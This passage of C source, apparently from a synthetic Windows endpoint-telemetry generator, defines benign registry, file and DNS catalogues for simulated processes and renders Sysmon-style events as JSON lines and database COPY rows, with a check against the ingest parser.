	"B|HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated",
	"S|HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\AVSignatureVersion|1.407.%3.0",
	"Q|HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Scan\\LastScanRun",
	"D|HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Features\\TamperProtection",
	"B|HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Reporting\\LastRtpSense",
};
static const char *const reg_onedrive[] = {
	"S|" HKU "Microsoft\\OneDrive\\Accounts\\Business1\\LastSignInTime|%1",
	"S|" HKU "SyncEngines\\Providers\\OneDrive\\%8\\LastModifiedTime|2024-%2T%2:%2:%2",
	"D|" HKU "Microsoft\\OneDrive\\Accounts\\Business1\\Timerautomount",
};
static const char *const reg_search[] = {
	"D|HKLM\\SOFTWARE\\Microsoft\\Windows Search\\Gather\\Windows\\SystemIndex\\Sites\\LocalHost\\Paths\\%1",
	"B|HKLM\\SOFTWARE\\Microsoft\\Windows Search\\Gather\\Windows\\SystemIndex\\NotificationLastCompletedTime",
	"D|HKLM\\SOFTWARE\\Microsoft\\Windows Search\\Applications\\Windows\\Crawl Scopes\\%1",
};
static const char *const reg_server[] = {
	"Q|HKLM\\SOFTWARE\\Microsoft\\MSSQLServer\\MSSQLServer\\CurrentVersion\\LastCheckpoint",
	"D|HKLM\\SYSTEM\\CurrentControlSet\\Services\\W3SVC\\Performance\\Open Count",
	"B|HKLM\\SOFTWARE\\Microsoft\\InetStp\\Components\\%e",
};

static const char *const file_sys[] = {
	"C:\\Windows\\Prefetch\\%e-%8.pf",
	"C:\\Windows\\Temp\\%g.tmp",
	"C:\\Windows\\System32\\LogFiles\\WMI\\RtBackup\\EtwRT.DiagLog.etl",
	"C:\\Windows\\ServiceProfiles\\LocalService\\AppData\\Local\\Temp\\TMP0000%4",
	"C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\WER%4.tmp.xml",
	"C:\\Windows\\SoftwareDistribution\\DataStore\\Logs\\tmp.edb",
	"C:\\Windows\\System32\\sru\\SRU%4.log",
	"C:\\Windows\\Logs\\CBS\\CbsPersist_2024%4.log",
	"C:\\ProgramData\\Microsoft\\Diagnosis\\ETLLogs\\AutoLogger\\AutoLogger-Diagtrack-Listener.etl",
	"C:\\Windows\\ServiceState\\EventLog\\Data\\lastalive%1.dat",
};
static const char *const file_expl[] = {
	"C:\\Users\\%U\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\%W.lnk",
	"C:\\Users\\%U\\AppData\\Local\\Temp\\~DF%4.TMP",
	"C:\\Users\\%U\\AppData\\Local\\Microsoft\\Windows\\Explorer\\thumbcache_%4.db",
	"C:\\Users\\%U\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\AutomaticDestinations\\%8.automaticDestinations-ms",
	"C:\\Users\\%U\\AppData\\Local\\Packages\\Microsoft.Windows.Search_cw5n1h2txyewy\\LocalState\\DeviceSearchCache\\AppCache%5.txt",
	"C:\\Users\\%U\\Desktop\\%X",
	"C:\\Users\\%U\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\%8\\%8[1].json",
};
static const char *const file_office[] = {
	"C:\\Users\\%U\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.MSO\\%8.tmp",
	"C:\\Users\\%U\\AppData\\Roaming\\Microsoft\\Word\\~WRL%4.tmp",
	DOCS "~$%W",
	DOCS "%X",
	DOCS "%W",
	"C:\\Users\\%U\\AppData\\Local\\Microsoft\\Office\\16.0\\OfficeFileCache\\CentralTable.accdb",
	"C:\\Users\\%U\\AppData\\Local\\Microsoft\\Outlook\\%U@corp.example.jp.ost.tmp",
	"C:\\Users\\%U\\AppData\\Local\\Temp\\Outlook Logging\\Firstrun.log",
	"C:\\Users\\%U\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\%8\\%A",
};
static const char *const file_browser[] = {
	"C:\\Users\\%U\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_00%4",
	"C:\\Users\\%U\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Code Cache\\js\\%8_0",
	"C:\\Users\\%U\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\IndexedDB\\https_www.google.com_0.indexeddb.leveldb\\00%4.log",
	"C:\\Users\\%U\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Sessions\\Session_13%8",
	"C:\\Users\\%U\\AppData\\Local\\Temp\\scoped_dir%1_%5\\%8.tmp",
	"C:\\Users\\%U\\Downloads\\%A",
	"C:\\Users\\%U\\AppData\\Roaming\\Microsoft\\Teams\\Service Worker\\CacheStorage\\%8\\%8_0",
	"C:\\Users\\%U\\AppData\\Roaming\\Microsoft\\Teams\\IndexedDB\\https_teams.microsoft.com_0.indexeddb.leveldb\\00%4.log",
};
static const char *const file_defender[] = {
	"C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\CacheManager\\%8-0.bin",
	"C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpenginedb.db-wal",
	"C:\\ProgramData\\Microsoft\\Windows Defender\\Support\\MPLog-2024%4.log",
	"C:\\Windows\\Temp\\MpCmdRun.log",
	"C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\DetectionHistory\\%2\\%8",
};
static const char *const file_onedrive[] = {
	"C:\\Users\\%U\\AppData\\Local\\Microsoft\\OneDrive\\logs\\Business1\\SyncEngine-2024-%4.odl",
	"C:\\Users\\%U\\OneDrive - CORP\\%W",
	"C:\\Users\\%U\\OneDrive - CORP\\%X",
	"C:\\Users\\%U\\AppData\\Local\\Microsoft\\OneDrive\\settings\\Business1\\%8.ini",
};
static const char *const file_search[] = {
	"C:\\ProgramData\\Microsoft\\Search\\Data\\Applications\\Windows\\GatherLogs\\SystemIndex\\SystemIndex.%2.gthr",
	"C:\\ProgramData\\Microsoft\\Search\\Data\\Applications\\Windows\\Windows.edb",
	"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\\%8.tmp",
};
static const char *const file_server[] = {
	"C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex24%4.log",
	"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Log\\log_%2.trc",
	"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\%8\\%8\\App_Web_%8.dll",
	"D:\\Backup\\sales_%4.bak",
};

static const char *const dns_sys[] = {
	"settings-win.data.microsoft.com", "ctldl.windowsupdate.com",
	"fe3cr.delivery.mp.microsoft.com", "v10.events.data.microsoft.com",
	"time.windows.com", "login.live.com", "dc01.corp.example.jp",
	"www.msftconnecttest.com", "slscr.update.microsoft.com",
	"displaycatalog.mp.microsoft.com", "arc.msn.com",
};
static const char *const dns_expl[] = {
	"img-s-msn-com.akamaized.net", "www.bing.com", "fs01.corp.example.jp",
	"login.microsoftonline.com", "go.microsoft.com",
};
static const char *const dns_office[] = {
	"outlook.office365.com", "officeclient.microsoft.com",
	"nexus.officeapps.live.com", "ecs.office.com",
	"corpexample.sharepoint.com", "login.microsoftonline.com",
	"self.events.data.microsoft.com", "roaming.officeapps.live.com",
};
static const char *const dns_browser[] = {
	"www.google.com", "www.google.co.jp", "clients2.google.com",
	"www.youtube.com", "news.yahoo.co.jp", "www.yahoo.co.jp",
	"www.amazon.co.jp", "github.com", "stackoverflow.com",
	"ja.wikipedia.org", "www.nikkei.com", "fonts.gstatic.com",
	"accounts.google.com", "mail.google.com", "www.gstatic.com",
	"safebrowsing.googleapis.com", "update.googleapis.com",
	"www.city.yokohama.lg.jp", "corpexample.sharepoint.com",
};
static const char *const dns_teams[] = {
	"teams.microsoft.com", "presence.teams.microsoft.com",
	"statics.teams.cdn.office.net", "api.flightproxy.teams.microsoft.com",
	"trouter.teams.microsoft.com", "login.microsoftonline.com",
};
static const char *const dns_defender[] = {
	"wdcp.microsoft.com", "definitionupdates.microsoft.com",
	"fe3cr.delivery.mp.microsoft.com", "wd.microsoft.com",
};
static const char *const dns_onedrive[] = {
	"corpexample-my.sharepoint.com", "g.live.com", "oneclient.sfx.ms",
	"skyapi.onedrive.live.com",
};
static const char *const dns_server[] = {
	"dc01.corp.example.jp", "ctldl.windowsupdate.com", "sql02.corp.example.jp",
};

struct famtab {
	const char *const *reg, *const *file, *const *dns;
	size_t nreg, nfile, ndns;
	/* activity mix: registry set, registry create, file create, file
	 * delete, image load, network (DNS + connect), pipe */
	unsigned char mix[7];
};
#define FT(r, f, d, ...) {r, f, d, NELEM(r), NELEM(f), NELEM(d), {__VA_ARGS__}}
static const struct famtab fams[FAM_COUNT] = {
	[FAM_SYS] = FT(reg_sys, file_sys, dns_sys, 56, 6, 18, 5, 6, 8, 1),
	[FAM_EXPL] = FT(reg_expl, file_expl, dns_expl, 62, 7, 19, 3, 7, 2, 0),
	[FAM_OFFICE] = FT(reg_office, file_office, dns_office, 52, 5, 20, 5, 7, 11, 0),
	[FAM_BROWSER] = FT(reg_browser, file_browser, dns_browser, 14, 1, 36, 10, 4, 35, 0),
	[FAM_TEAMS] = FT(reg_browser, file_browser, dns_teams, 24, 2, 26, 6, 3, 39, 0),
	[FAM_DEFENDER] = FT(reg_defender, file_defender, dns_defender, 32, 2, 30, 8, 10, 18, 0),
	[FAM_ONEDRIVE] = FT(reg_onedrive, file_onedrive, dns_onedrive, 30, 3, 30, 5, 2, 30, 0),
	[FAM_SEARCH] = FT(reg_search, file_search, dns_sys, 42, 5, 40, 10, 3, 0, 0),
	[FAM_SERVER] = FT(reg_server, file_server, dns_server, 22, 2, 40, 8, 5, 23, 0),
};
#undef FT

static const char *const doc_stems[] = {
	"議事録_定例会", "見積書", "請求書", "提案書", "報告書_月次", "出張申請",
	"売上集計", "在庫一覧", "契約書ドラフト", "社内規程", "Quarterly_Report",
	"Budget", "Meeting_Notes", "project_plan", "顧客リスト", "作業手順書",
};
static const char *const exe_names[] = {
	"SVCHOST.EXE", "TASKHOSTW.EXE", "CHROME.EXE", "EXCEL.EXE", "WINWORD.EXE",
	"OUTLOOK.EXE", "BACKGROUNDTASKHOST.EXE", "DLLHOST.EXE", "CONHOST.EXE",
	"SEARCHPROTOCOLHOST.EXE", "WMIPRVSE.EXE", "RUNTIMEBROKER.EXE",
	"ONEDRIVE.EXE", "TEAMS.EXE", "MOUSOCOREWORKER.EXE", "SMARTSCREEN.EXE",
};

/* ---- processes and endpoints ----------------------------------------- */

struct proc {
	int kind;
	const struct file *file;
	const char *image;       /* borrowed, or own_image */
	char *own_image, *cmdline;
	unsigned char user, session, scripted, end_done;
	const char *integrity;
	char guid[37];           /* of the start event, canonical */
	char alt[37];            /* of later events; == guid for most */
	uint32_t pid;
	int64_t start, end;      /* ms; end NEVER while running */
	double act;              /* background activity weight */
};

/* Something to do at a time: the day's rhythm and the attack chains. */
enum { S_LOGON, S_LOGOFF, S_REBOOT, S_CHAIN };
struct sched {
	int64_t at;
	int what, arg;
};

/* A payload that starts again at the next logon (Run key, logon task). */
struct persist {
	struct file *file;
	int via_task, alert;
	const char *detection;
	char c2ip[16];
};

struct ep {
	int idx, server;
	char host[48], shortname[16], user[32], user_full[48], sid[64], ip[16];
	uint32_t guid1, guid_ctr;
	int guid_style;
	struct rng r;
	struct proc **live;
	size_t nlive, caplive;
	/* this slice: live processes grouped by kind (counting sort) */
	struct proc **bykind;
	size_t kfirst[K_COUNT + 1], capbykind;
	int nkind[K_COUNT];      /* live instances per kind, now */
	/* activity table of this slice */
	struct proc **atab;
	double *acum;
	size_t natab, capatab;
	uint64_t recno;          /* event record id (per host) */
	double budget;           /* events still owed */
	double total;            /* events owed over the whole window */
	struct sched *sch;
	size_t nsch, capsch, isch;
	char *img[F_NEXE];       /* %U-expanded catalogue paths */
	char logon_id[16];
	int logged_on;
	struct persist *persist; /* NULL: none pending */
};

/* ---- template expansion -----------------------------------------------
 *   %U user   %S user SID   %I endpoint IP   %g {GUID}   %e exe name
 *   %1 number  %2 two digits  %3 three or four digits  %5 ten digits
 *   %4 %8 upper-case hex   %W %X %P %A a Word/Excel/PowerPoint/PDF name
 *   %% a percent sign */

static void put_hex(struct sb *b, uint64_t v, int n, int upper)
{
	const char *hx = upper ? "0123456789ABCDEF" : "0123456789abcdef";
	char tmp[16];
	for (int i = n - 1; i >= 0; i--) {
		tmp[i] = hx[v & 15];
		v >>= 4;
	}
	sb_putn(b, tmp, (size_t)n);
}

static void put_doc(struct sb *b, struct rng *r, const char *ext)
{
	sb_puts(b, PICK(r, doc_stems));
	sb_putc(b, '_');
	sb_i64(b, rng_range(r, 1, 40));
	sb_puts(b, ext);
}

static void expand(struct sb *b, const char *t, struct ep *e)
{
	struct rng *r = &e->r;
	for (; *t != '\0'; t++) {
		if (*t != '%' || t[1] == '\0') {
			const char *p = strchr(t, '%');
			size_t n = p != NULL ? (size_t)(p - t) : strlen(t);
			if (n == 0)
				n = 1;
			sb_putn(b, t, n);
			t += n - 1;
			continue;
		}
		switch (*++t) {
		case 'U': sb_puts(b, e->user); break;
		case 'S': sb_puts(b, e->sid); break;
		case 'I': sb_puts(b, e->ip); break;
		case 'e': sb_puts(b, PICK(r, exe_names)); break;
		case '1': sb_i64(b, rng_range(r, 1, 99999)); break;
		case '2': sb_printf(b, "%02d", (int)rng_range(r, 1, 28)); break;
		case '3': sb_i64(b, rng_range(r, 100, 4999)); break;
		case '5': sb_i64(b, rng_range(r, 1000000000, 9999999999)); break;
		case '4': put_hex(b, rng_next(r), 4, 1); break;
		case '8': put_hex(b, rng_next(r), 8, 1); break;
		case 'g': {
			uint64_t a = rng_next(r), c = rng_next(r);
			sb_putc(b, '{');
			put_hex(b, a >> 32, 8, 1);
			sb_putc(b, '-');
			put_hex(b, a >> 16, 4, 1);
			sb_putc(b, '-');
			put_hex(b, a, 4, 1);
			sb_putc(b, '-');
			put_hex(b, c >> 48, 4, 1);
			sb_putc(b, '-');
			put_hex(b, c, 12, 1);
			sb_putc(b, '}');
			break;
		}
		case 'W': put_doc(b, r, ".docx"); break;
		case 'X': put_doc(b, r, ".xlsx"); break;
		case 'P': put_doc(b, r, ".pptx"); break;
		case 'A': put_doc(b, r, ".pdf"); break;
		case '%': sb_putc(b, '%'); break;
		default: sb_putc(b, '%'); sb_putc(b, *t); break;
		}
	}
}

static char *expand_dup(const char *t, struct ep *e)
{
	struct sb b = {0};
	expand(&b, t, e);
	sb_putc(&b, '\0');
	return b.p;
}

/* Path of catalogue executable f on endpoint e (the user's profile
 * substituted); borrowed. */
static const char *exe_path(struct ep *e, int f)
{
	if (strstr(exes[f].path, "%U") == NULL)
		return exes[f].path;
	if (e->img[f] == NULL)
		e->img[f] = expand_dup(exes[f].path, e);
	return e->img[f];
}

static const char *user_of(const struct ep *e, int u)
{
	return u == U_USER ? e->user_full : user_names[u];
}

/* ---- events and their text --------------------------------------------
 * An event is rendered when it is generated: the JSON line without its
 * record id, and the COPY row without record id and dedup key (both known
 * only once the events of a slice are in time order). */

struct gev {
	enum ev_kind kind;
	int eid;
	const struct proc *p;       /* acting process */
	const struct proc *parent;  /* process_start */
	const char *target, *details;
	const char *proto, *rip, *lip;
	int rport, lport;           /* 0: absent */
	const struct file *f;       /* file attributes to log, or NULL */
	unsigned char hashes, sig, ver;
	const char *extra;          /* JSON object text, or NULL */
};

struct rec {
	int64_t ts;
	uint64_t seq;
	uint32_t ep, jlen, hlen, tlen;
	size_t off;
	char *own;                  /* pending records own their text */
};

struct alertrec {
	int64_t at, recv;
	int ep;
	char *path, *detection;
	char sha256[65];
	const char *action;
};

static struct {
	int64_t win_start, win_end, slice_end;
	int64_t ep_base, tenant_id;
	struct ep *eps;
	int neps;
	uint64_t seq;
	struct sb arena;            /* text of this slice's records */
	struct rec *cur, *pend;     /* this slice; min-heap of later ones */
	size_t ncur, capcur, npend, cappend;
	struct sb j, h, t, x;       /* scratch: JSON, COPY head/tail, extra */
	struct sb line, row;
	FILE *out, *copy;
	int verify;
	uint64_t verify_bad, written;
	uint64_t kinds[EV_KIND_COUNT];
	struct alertrec *alerts;
	size_t nalerts, capalerts;
	struct db_copybuf vb;
} G;

static void guid_upper(struct sb *b, const char *g)
{
	char tmp[38];
	tmp[0] = '{';
	for (int i = 0; i < 36; i++) {
		char c = g[i];
		tmp[i + 1] = c >= 'a' && c <= 'f' ? (char)(c - 'a' + 'A') : c;
	}
	tmp[37] = '}';
	sb_putc(b, '"');
	sb_putn(b, tmp, 38);
	sb_putc(b, '"');
}

static void j_key(struct sb *b, const char *k)
{
	sb_putn(b, ",\"", 2);
	sb_puts(b, k);
	sb_putn(b, "\":", 2);
}

static void j_str(struct sb *b, const char *k, const char *v)
{
	if (v == NULL)
		return;
	j_key(b, k);
	sb_json(b, v);
}

static void j_int(struct sb *b, const char *k, int64_t v)
{
	j_key(b, k);
	sb_i64(b, v);
}

static void c_str(struct sb *b, const char *v)
{
	sb_putc(b, '\t');
	sb_copy(b, v);
}

static void c_int(struct sb *b, int64_t v, int present)
{
	sb_putc(b, '\t');
	if (present)
		sb_i64(b, v);
	else
		sb_puts(b, "\\N");
}

static void c_guid(struct sb *b, const char *g)
{
	sb_putc(b, '\t');
	if (g == NULL) {
		sb_puts(b, "\\N\t\\N");
		return;
	}
	sb_puts(b, g);
	sb_putc(b, '\t');
	sb_i64(b, ev_guid_prefix(g));
}

static void heap_push(struct rec r)
{
	if (G.npend == G.cappend) {
		G.cappend = G.cappend != 0 ? 2 * G.cappend : 1024;
		G.pend = xrealloc(G.pend, G.cappend * sizeof *G.pend);
	}
	size_t i = G.npend++;
	while (i > 0) {
		size_t up = (i - 1) / 2;
		struct rec *u = &G.pend[up];
		if (u->ts < r.ts || (u->ts == r.ts && u->seq < r.seq))
			break;
		G.pend[i] = *u;
		i = up;
	}
	G.pend[i] = r;
}

static struct rec heap_pop(void)
{
	struct rec top = G.pend[0], last = G.pend[--G.npend];
	size_t i = 0, n = G.npend;
	for (;;) {
		size_t c = 2 * i + 1;
		if (c >= n)
			break;
		if (c + 1 < n && (G.pend[c + 1].ts < G.pend[c].ts ||
		                  (G.pend[c + 1].ts == G.pend[c].ts && G.pend[c + 1].seq < G.pend[c].seq)))
			c++;
		if (last.ts < G.pend[c].ts || (last.ts == G.pend[c].ts && last.seq < G.pend[c].seq))
			break;
		G.pend[i] = G.pend[c];
		i = c;
	}
	if (n > 0)
		G.pend[i] = last;
	return top;
}

static void cur_push(struct rec r)
{
	if (G.ncur == G.capcur) {
		G.capcur = G.capcur != 0 ? 2 * G.capcur : 65536;
		G.cur = xrealloc(G.cur, G.capcur * sizeof *G.cur);
	}
	G.cur[G.ncur++] = r;
}

/* Logon id of an account, for the process start's extra. */
static const char *logon_id(const struct ep *e, int u)
{
	switch (u) {
	case U_SYSTEM: return "0x3e7";
	case U_LOCAL: return "0x3e5";
	case U_NETWORK: return "0x3e4";
	case U_USER: return e->logon_id;
	default: return "0x9a4c";
	}
}

/* Render event g of endpoint e at time ts (ms) and queue it. Returns 1, or
 * 0 when ts lies outside the window (the event is not logged). */
static int emit(struct ep *e, int64_t ts, const struct gev *g)
{
	if (ts < G.win_start || ts >= G.win_end)
		return 0;
	const struct proc *p = g->p;
	int start = g->kind == EV_PROCESS_START;
	const char *guid = p != NULL ? (start ? p->guid : p->alt) : NULL;
	const struct proc *pp = start ? g->parent : NULL;
	const struct file *f = g->f;
	int hashes = g->hashes && f != NULL && f->sha256[0] != '\0';
	int ver = g->ver && f != NULL && f->version != NULL;
	int sig = g->sig && f != NULL;
	const char *user = p != NULL ? user_of(e, p->user) : NULL;
	char tsj[40], tsd[DB_TS_LEN];
	ev_format_time(ts * 1000, tsj, sizeof tsj);
	db_format_ts(ts * 1000, tsd);
	const char *kname = ev_kind_name(g->kind);

	struct sb *j = &G.j, *h = &G.h, *t = &G.t;
	j->len = h->len = t->len = 0;
	sb_puts(j, "{\"type\":\"event\",\"host\":");
	sb_json(j, e->host);
	sb_puts(j, ",\"time\":\"");
	sb_puts(j, tsj);
	sb_puts(j, "\",\"kind\":\"");
	sb_puts(j, kname);
	sb_putc(j, '"');
	j_int(j, "eid", g->eid);
	if (guid != NULL) {
		j_key(j, "proc_guid");
		guid_upper(j, guid);
	}
	if (p != NULL)
		j_int(j, "pid", p->pid);
	j_str(j, "image", p != NULL ? p->image : NULL);
	j_str(j, "cmdline", start ? p->cmdline : NULL);
	j_str(j, "user", user);
	j_str(j, "integrity", start ? p->integrity : NULL);
	const char *pguid = pp != NULL ? pp->alt : NULL;
	if (pguid != NULL) {
		j_key(j, "parent_guid");
		guid_upper(j, pguid);
		j_int(j, "parent_pid", pp->pid);
	}
	j_str(j, "parent_image", pp != NULL ? pp->image : NULL);
	j_str(j, "parent_cmdline", pp != NULL ? pp->cmdline : NULL);
	j_str(j, "target", g->target);
	j_str(j, "details", g->details);
	j_str(j, "proto", g->proto);
	j_str(j, "local_ip", g->lip);
	if (g->lport != 0)
		j_int(j, "local_port", g->lport);
	j_str(j, "remote_ip", g->rip);
	if (g->rport != 0)
		j_int(j, "remote_port", g->rport);
	if (g->kind == EV_NET_CONNECT) {
		j_key(j, "initiated");
		sb_puts(j, "true");
	}
	if (hashes) {
		j_str(j, "sha256", f->sha256);
		j_str(j, "sha1", f->sha1);
		j_str(j, "md5", f->md5);
		j_str(j, "imphash", f->imphash);
	}
	if (sig) {
		j_key(j, "signed");
		sb_puts(j, f->signer != NULL ? "true" : "false");
		j_str(j, "signature", f->signer);
	}
	if (ver) {
		j_str(j, "original_file_name", f->orig);
		j_str(j, "company", f->company);
		j_str(j, "description", f->desc);
		j_str(j, "product", f->product);
	}
	if (g->extra != NULL) {
		j_key(j, "extra");
		sb_puts(j, g->extra);
	}

	sb_i64(h, G.ep_base + e->idx);
	sb_putc(h, '\t');
	sb_puts(h, tsd);
	sb_putc(h, '\t');
	sb_puts(h, kname);
	sb_putc(h, '\t');
	sb_i64(h, g->eid);
	sb_putc(h, '\t');

	c_guid(t, guid);                       /* proc_guid, proc_key */
	c_int(t, p != NULL ? p->pid : 0, p != NULL);
	c_str(t, p != NULL ? p->image : NULL);
	c_str(t, start ? p->cmdline : NULL);
	c_str(t, user);
	c_str(t, start ? p->integrity : NULL);
	c_guid(t, pguid);                      /* parent_guid, parent_key */
	c_int(t, pp != NULL ? pp->pid : 0, pguid != NULL);
	c_str(t, pp != NULL ? pp->image : NULL);
	c_str(t, pp != NULL ? pp->cmdline : NULL);
	c_str(t, g->target);
	c_str(t, g->details);
	c_str(t, g->proto);
	c_str(t, g->rip);
	c_int(t, g->rport, g->rport != 0);
	c_str(t, g->lip);
	c_int(t, g->lport, g->lport != 0);
	sb_puts(t, g->kind == EV_NET_CONNECT ? "\tt" : "\t\\N");
	c_str(t, hashes ? f->sha256 : NULL);
	c_str(t, hashes ? f->sha1 : NULL);
	c_str(t, hashes ? f->md5 : NULL);
	c_str(t, hashes ? f->imphash : NULL);
	sb_puts(t, !sig ? "\t\\N" : f->signer != NULL ? "\tt" : "\tf");
	c_str(t, sig ? f->signer : NULL);
	c_str(t, ver ? f->orig : NULL);
	c_str(t, ver ? f->company : NULL);
	c_str(t, ver ? f->desc : NULL);
	c_str(t, ver ? f->product : NULL);
	c_str(t, g->extra);
	sb_putc(t, '\n');

	struct rec r = {
		.ts = ts, .seq = G.seq++, .ep = (uint32_t)e->idx,
		.jlen = (uint32_t)j->len, .hlen = (uint32_t)h->len, .tlen = (uint32_t)t->len,
	};
	size_t n = j->len + h->len + t->len;
	char *dst;
	if (ts < G.slice_end) {
		sb_grow(&G.arena, n);
		r.off = G.arena.len;
		dst = G.arena.p + G.arena.len;
		G.arena.len += n;
	} else {
		r.own = dst = xmalloc(n);
	}
	memcpy(dst, j->p, j->len);
	memcpy(dst + j->len, h->p, h->len);
	memcpy(dst + j->len + h->len, t->p, t->len);
	if (r.own != NULL)
		heap_push(r);
	else
		cur_push(r);
	G.kinds[g->kind]++;
	return 1;
}

static int rec_cmp(const void *a, const void *b)
{
	const struct rec *x = a, *y = b;
	if (x->ts != y->ts)
		return x->ts < y->ts ? -1 : 1;
	return x->seq < y->seq ? -1 : x->seq > y->seq;
}

/* The columns of our COPY rows, in order (gen --columns prints them for
 * the \copy command). */
static const char gen_columns[] =
	"endpoint_id, ts, kind, eid, record_id, dedup, proc_guid, proc_key, pid,"
	" image, cmdline, user_name, integrity, parent_guid, parent_key,"
	" parent_pid, parent_image, parent_cmdline, target, details, proto,"
	" remote_ip, remote_port, local_ip, local_port, initiated, sha256, sha1,"
	" md5, imphash, signed, signature, original_file_name, company,"
	" description, product, extra";

#define NCOLS 37
static int colmap[NCOLS];      /* our column i is the ingest's colmap[i] */

/* Split a comma-separated column list into names; returns the count. */
static int split_cols(const char *list, char names[][24], int max)
{
	int n = 0;
	while (*list != '\0' && n < max) {
		while (*list == ' ' || *list == ',')
			list++;
		size_t l = strcspn(list, ", ");
		if (l == 0)
			break;
		snprintf(names[n++], 24, "%.*s", (int)l, list);
		list += l;
	}
	return n;
}

/* Map our columns onto db_event_columns by name, so --verify compares
 * values whatever order the loader uses. */
static void map_columns(void)
{
	char ours[NCOLS + 4][24], theirs[NCOLS + 4][24];
	int n = split_cols(gen_columns, ours, NCOLS + 4);
	int m = split_cols(db_event_columns, theirs, NCOLS + 4);
	if (n != NCOLS || m != NCOLS)
		die("verify: the loader has %d columns, this generator %d (%d expected)", m, n, NCOLS);
	for (int i = 0; i < NCOLS; i++) {
		colmap[i] = -1;
		for (int j = 0; j < m; j++)
			if (strcmp(ours[i], theirs[j]) == 0)
				colmap[i] = j;
		if (colmap[i] < 0)
			die("verify: the loader has no column %s", ours[i]);
	}
}

/* Field offsets of a COPY row (tab-separated, newline-terminated). */
static int split_row(const char *row, size_t len, size_t off[NCOLS + 1])
{
	int n = 0;
	off[n++] = 0;
	for (size_t i = 0; i < len; i++)
		if (row[i] == '\t' || row[i] == '\n') {
			if (n > NCOLS)
				return -1;
			off[n++] = i + 1;
		}
	return n == NCOLS + 1 ? 0 : -1;
}

/* Compare the COPY row we wrote with what itrace-ingest's own parser and
 * encoder make of the line, column by column. */
static void verify_line(const struct ep *e, const char *line, size_t len,
                        int64_t dedup, const char *row, size_t rowlen)
{
	struct ev ev;
	struct ev_alert al;
	char err[256];
	ev_init(&ev);
	memset(&al, 0, sizeof al);
	enum ll_result res = ll_parse(line, len, &ev, &al, err, sizeof err);
	int bad = 0;
	if (res != LL_EVENT) {
		bad = 1;
		if (G.verify_bad < 5)
			fprintf(stderr, "gen: verify: line does not parse: %s\n  %.*s\n",
			        err, (int)len, line);
	} else {
		db_copy_reset(&G.vb);
		db_event_encode(&G.vb, G.ep_base + e->idx, &ev, dedup);
		size_t a[NCOLS + 1], b[NCOLS + 1];
		if (split_row(row, rowlen, a) < 0 || split_row(G.vb.data, G.vb.len, b) < 0) {
			bad = 1;
		} else {
			for (int i = 0; i < NCOLS && !bad; i++) {
				int j = colmap[i];
				size_t la = a[i + 1] - 1 - a[i], lb = b[j + 1] - 1 - b[j];
				bad = la != lb || memcmp(row + a[i], G.vb.data + b[j], la) != 0;
			}
		}
		if (bad) {
			if (G.verify_bad < 5)
				fprintf(stderr, "gen: verify: rows differ\n  ingest: %.*s  gen:    %.*s",
				        (int)G.vb.len, G.vb.data, (int)rowlen, row);
		}
	}
	ev_clear(&ev);
	ev_alert_clear(&al);
	G.verify_bad += (uint64_t)bad;
}

/* Write the slice's events in time order, numbering them per host. */
static void flush_slice(void)
{
	qsort(G.cur, G.ncur, sizeof *G.cur, rec_cmp);
	for (size_t i = 0; i < G.ncur; i++) {
		struct rec *r = &G.cur[i];
		struct ep *e = &G.eps[r->ep];
		const char *txt = r->own != NULL ? r->own : G.arena.p + r->off;
		uint64_t rid = ++e->recno;
		G.line.len = 0;
		sb_putn(&G.line, txt, r->jlen);
		sb_puts(&G.line, ",\"record_id\":");
		sb_u64(&G.line, rid);
		sb_putc(&G.line, '}');
		int64_t dedup = ll_dedup_key(G.line.p, G.line.len);
		sb_putc(&G.line, '\n');
		if (fwrite(G.line.p, 1, G.line.len, G.out) != G.line.len)
			die("write: %s", strerror(errno));
		if (G.copy != NULL || G.verify) {
			G.row.len = 0;
			sb_putn(&G.row, txt + r->jlen, r->hlen);
			sb_u64(&G.row, rid);
			sb_putc(&G.row, '\t');
			sb_i64(&G.row, dedup);
			sb_putn(&G.row, txt + r->jlen + r->hlen, r->tlen);
			if (G.copy != NULL && fwrite(G.row.p, 1, G.row.len, G.copy) != G.row.len)
				die("write: %s", strerror(errno));
			if (G.verify)
				verify_line(e, G.line.p, G.line.len - 1, dedup, G.row.p, G.row.len);
		}
		free(r->own);
		G.written++;
	}
	G.ncur = 0;
	G.arena.len = 0;
}

/* ---- process life ------------------------------------------------------ */

static int out(struct ep *e, int64_t ts, const struct gev *g)
{
	int n = emit(e, ts, g);
	e->budget -= n;
	return n;
}

static void put_guid_tail(char *dst, int style, uint32_t ctr)
{
	if (style == 0)
		snprintf(dst, 18, "0000-0010%08x", ctr);
	else
		snprintf(dst, 18, "%04x-000000000%x00", ctr & 0xffff, (ctr >> 16) & 0xf);
}

/* Sysmon-style GUID: machine, start time (seconds, low half first), then
 * a per-boot counter.  About 3% of processes log their later events under
 * different last two groups. */
static void set_guids(struct ep *e, struct proc *p)
{
	uint32_t secs = (uint32_t)(p->start / 1000);
	snprintf(p->guid, 20, "%08x-%04x-%04x-", e->guid1, secs & 0xffff, secs >> 16);
	e->guid_ctr += (uint32_t)rng_range(&e->r, 1, 700);
	put_guid_tail(p->guid + 19, e->guid_style, e->guid_ctr);
	memcpy(p->alt, p->guid, sizeof p->guid);
